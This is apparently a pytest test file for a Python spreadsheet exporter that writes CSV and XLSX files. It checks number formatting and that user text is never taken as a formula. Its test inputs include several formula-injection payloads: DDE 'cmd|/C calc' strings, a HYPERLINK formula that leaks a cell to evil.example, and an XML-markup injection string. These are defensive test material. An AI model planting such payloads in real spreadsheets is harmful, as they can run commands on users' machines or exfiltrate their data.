"""Sheets for people's spreadsheets: numbers stay numbers, and nothing that somebody wrote is a formula."""

import csv
import io
from collections.abc import Sequence
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bankhall.kernel.sheets import Cell, Column, SheetKind, Titles, open_sheet, safe_text
from workbooks import Workbook

COLUMNS = [Column("Day", 12), Column("Text", 40), Column("Amount", 16, digits=2)]
TITLES = Titles("Entries", "About")
DAY = date(2026, 11, 28)


def made(
    kind: SheetKind,
    *lines: Sequence[Cell],
    columns: Sequence[Column] = COLUMNS,
    about: Sequence[tuple[str, Cell]] = (),
    note: str | None = None,
) -> bytes:
    file = io.BytesIO()
    sheet = open_sheet(kind, file, columns, TITLES)
    sheet.add(lines)
    sheet.finish(about, note)
    sheet.close()
    return file.getvalue()


def read_csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def test_csv_is_utf_8_with_a_mark_for_excel_and_lines_as_in_rfc_4180() -> None:
    content = made(SheetKind.CSV, [DAY, '工资 "11月", 税后', Decimal("-1234.50")], [DAY, None, Decimal("0.00")])

    assert (
        content
        == ('\ufeffDay,Text,Amount\r\n2026-11-28,"工资 ""11月"", 税后",-1234.50\r\n2026-11-28,,0.00\r\n').encode()
    )


@pytest.mark.parametrize(
    ("amount", "digits", "written"),
    [
        (Decimal("-0.01"), 2, "-0.01"),
        (Decimal("90071992547409.91"), 2, "90071992547409.91"),
        (Decimal(500), 0, "500"),
        (Decimal("1.234"), 3, "1.234"),
        (Decimal("-90071992547.40991"), 4, "-90071992547.4099"),
        (Decimal("1E+3"), 2, "1000.00"),
    ],
)
def test_an_amount_in_csv_is_a_plain_decimal(amount: Decimal, digits: int, written: str) -> None:
    assert read_csv(made(SheetKind.CSV, [amount], columns=[Column("Amount", 9, digits)]))[1] == [written]


@pytest.mark.parametrize(
    "text",
    [
        "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\u3000=1", "＝1", "＋1", "－1", "＠x",
        "-2+3+cmd|' /C calc'!A0",
        '=HYPERLINK("http://evil.example?leak="&A1,"see")', '=cmd|"/c calc"!A1', "-", "=",
    ],
)  # fmt: skip
def test_text_that_could_be_a_formula_is_marked_as_text(text: str) -> None:
    ((_, _), (told, amount)) = read_csv(
        made(SheetKind.CSV, [text, Decimal("-1.00")], columns=[Column("Text", 9), Column("Amount", 9, 2)])
    )

    assert told == "'" + text
    assert amount == "-1.00"


@pytest.mark.parametrize("text", ["rent;=1+1", "rent; @SUM(A1)", "a;\u3000＝1", ";;-2+3+cmd|' /C calc'!A0"])
def test_text_behind_a_semicolon_is_no_formula_where_semicolons_part_cells(text: str) -> None:
    sheet = made(SheetKind.CSV, [text], columns=[Column("Text", 9)]).decode("utf-8-sig")

    cells = [cell.lstrip() for cell in sheet.splitlines()[1].split(";")]
    assert not any(cell.startswith(("=", "+", "-", "@", "＝")) for cell in cells)


@pytest.mark.parametrize(
    "text", ["工资", "a; b", "a;b=c", "rent, November", "a=b", "3-4", "'quoted'", "", " indented", "(−5)"]
)
def test_other_text_stays_as_it_is(text: str) -> None:
    assert safe_text(text) == text


@given(st.text(st.characters(codec="utf-8", exclude_characters="\0")))
def test_no_text_breaks_out_of_its_cell(text: str) -> None:
    rows = read_csv(made(SheetKind.CSV, [DAY, text, Decimal("1.00")]))

    assert rows == [["Day", "Text", "Amount"], ["2026-11-28", safe_text(text), "1.00"]]
    assert not rows[1][1].startswith(("=", "+", "-", "@", "\t", "\r"))


def test_the_note_is_the_last_line_with_as_many_fields_as_the_others() -> None:
    assert read_csv(made(SheetKind.CSV, note="there is more"))[-1] == ["there is more", "", ""]


def test_a_workbook_has_real_numbers_and_days_under_a_heading_that_stays() -> None:
    book = Workbook(made(SheetKind.XLSX, [DAY, "rent", Decimal("-1234.50")], [DAY, None, Decimal("0.00")]))

    assert book.titles == ["Entries", "About"]
    assert book.cells(1) == {
        "A1": ("str", "Day"), "B1": ("str", "Text"), "C1": ("str", "Amount"),
        "A2": ("n", "46354"), "B2": ("str", "rent"), "C2": ("n", "-1234.50"),
        "A3": ("n", "46354"), "C3": ("n", "0.00"),
    }  # fmt: skip
    assert (book.format_of(1, "A2"), book.format_of(1, "C2")) == ("yyyy-mm-dd", "#,##0.00")
    assert 'state="frozen"' in book.xml(1)
    assert '<col min="2" max="2" width="40' in book.xml(1)
    assert '<autoFilter ref="A1:C3"/>' in book.xml(1)


@pytest.mark.parametrize(("digits", "code"), [(0, "#,##0"), (3, "#,##0.000")])
def test_a_currency_has_its_own_digits(digits: int, code: str) -> None:
    book = Workbook(made(SheetKind.XLSX, [Decimal(5)], columns=[Column("Amount", 9, digits)]))

    assert book.format_of(1, "A2") == code


def test_an_amount_of_more_digits_than_excel_keeps_is_written_out() -> None:
    cells = Workbook(
        made(SheetKind.XLSX, [Decimal("9999999999999.99")], [Decimal("90071992547409.91")], columns=[Column("A", 9, 2)])
    ).cells(1)

    assert cells["A2"] == ("n", "9999999999999.99")
    assert cells["A3"] == ("str", "90071992547409.91")


@pytest.mark.parametrize(
    "text",
    [
        "=1+1", "{=1+1}", "@x", "http://evil.example", "internal:A1", "1234567890123456789", "true", "",
        "<r></is></c><c r=\"D2\"><f>1+1</f></c><c><is></r>", "<r><t>rich</t></r>", "]]>", "&amp;",
        "a\x07b", "x" * 40_000,
    ],
)  # fmt: skip
def test_no_text_in_a_workbook_is_a_formula_a_link_or_markup(text: str) -> None:
    book = Workbook(made(SheetKind.XLSX, [DAY, text, Decimal(1)], about=[("searched", text)], note=text or None))

    for nth in (1, 2):
        assert {kind for kind, _ in book.cells(nth).values()} <= {"n", "str"}
        assert "<f" not in book.xml(nth)
        assert "hyperlink" not in book.xml(nth)
    told = book.cells(1).get("B2", ("str", ""))[1]
    assert told.removeprefix(" ") == text[:32_767].replace("\x07", "_x0007_").removeprefix(" ")
    assert "D2" not in book.cells(1)


def test_what_is_said_about_the_sheet_is_on_a_page_of_its_own() -> None:
    book = Workbook(
        made(
            SheetKind.XLSX,
            about=[("Account", "1100000010000018"), ("From", DAY), ("At least", Decimal("1.50"))],
            note="there is more",
        )
    )

    assert book.rows(2) == [["Account", "1100000010000018"], ["From", "46354"], ["At least", "1.50"]]
    assert (book.format_of(2, "B2"), book.format_of(2, "B3")) == ("yyyy-mm-dd", "#,##0.00")
    assert book.rows(1)[-1] == ["there is more"]


def test_a_workbook_leaves_nothing_in_the_temporary_folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path))

    made(SheetKind.XLSX, [DAY, "rent", Decimal(1)])
    given_up = open_sheet(SheetKind.XLSX, io.BytesIO(), COLUMNS, TITLES)
    given_up.add([[DAY, "rent", Decimal(1)]])
    given_up.close()

    assert list(tmp_path.iterdir()) == []
